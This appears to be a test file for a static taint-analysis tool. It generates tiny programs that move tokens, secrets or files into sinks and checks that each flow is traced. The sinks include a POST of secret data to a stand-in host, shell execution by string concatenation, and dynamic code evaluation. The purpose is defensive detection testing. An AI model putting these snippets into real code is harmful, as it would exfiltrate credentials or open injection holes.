import { analyzeText, MANIFEST } from '../testing/analyze-text.ts';

/** Where information enters, as an expression of an async function that is given `api`. */
const SOURCES = {
  environment: 'process.env.SERVICE_TOKEN',
  'host data': "await api.host.call('contacts.read')",
  storage: "localStorage.getItem('token')",
  DOM: "document.querySelector('#note').textContent",
  secrets: "await api.secrets.get('key')",
  'file system': "fs.readFileSync('/home/a/notes.txt', 'utf8')",
};
const SINKS = {
  network: "fetch('https://x.example/in', { method: 'POST', body: data });",
  'dynamic code': 'new Function(data)();',
  'child process': "child.exec('say ' + data);",
  'DOM injection': 'document.body.innerHTML = data;',
  navigation: "location.href = 'https://x.example/?' + data;",
  logs: "console.log('seen', data);",
};
const pairs = Object.entries(SOURCES).flatMap(([source, from]) =>
  Object.entries(SINKS).map(([sink, to]) => ({ source, sink, from, to })),
);

function program(from: string, to: string): string {
  return [
    "import fs from 'node:fs';",
    "import child from 'node:child_process';",
    'export async function run({ api }) {',
    `  const data = ${from};`,
    `  ${to}`,
    '}',
  ].join('\n');
}

describe.each([
  ['a plugin', MANIFEST],
  ['a library', null],
])('in %s', (_name, manifest) => {
  it.each(pairs)('what $source holds is followed to $sink, step by step', async ({ from, to }) => {
    const { findings } = await analyzeText(program(from, to), { manifest });
    const ways = findings.filter(({ line, flow }) => line === 5 && flow?.at(0)?.label.startsWith('source: '));
    expect(ways.flatMap(({ flow }) => flow?.slice(0, 1).map(({ line }) => line))).toContain(4);
  });
});

it('a text that is written here leads from nowhere', async () => {
  for (const to of Object.values(SINKS)) {
    const { findings } = await analyzeText(program("'hello'", to), { manifest: MANIFEST });
    expect(findings.filter(({ flow }) => flow !== undefined)).toEqual([]);
  }
});
